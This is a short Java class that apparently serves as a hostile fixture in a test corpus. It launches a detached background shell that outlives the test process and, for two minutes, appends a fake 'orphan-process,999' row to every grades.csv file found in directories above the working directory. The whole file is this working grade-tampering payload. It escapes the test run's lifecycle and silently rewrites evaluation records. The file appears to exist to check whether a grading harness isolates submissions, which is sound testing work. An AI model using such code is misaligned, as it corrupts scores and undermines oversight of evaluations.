package org.multiplex.blocking;

/** Not the student's work: a process that outlives the test JVM and appends to every grades.csv near it. */
final class Orphan {

    /** A subshell in the background of a shell that exits at once: its parent gone, no one's descendant. */
    private static final String SCRIPT = "( for i in $(seq 120); do sleep 1;"
            + " find \"$1\"/../../../.. -maxdepth 3 -name grades.csv 2>/dev/null"
            + " | while read -r f; do echo 'orphan-process,999' >> \"$f\"; done; done ) > /dev/null 2>&1 &";

    private Orphan() {
    }

    static void leave() {
        try {
            new ProcessBuilder("sh", "-c", SCRIPT, "multiplex-corpus-orphan", System.getProperty("user.dir"))
                    .start().waitFor();
            System.out.println("orphan-process: left running");
        } catch (Exception e) {
            System.out.println("orphan-process: " + e);
        }
    }
}
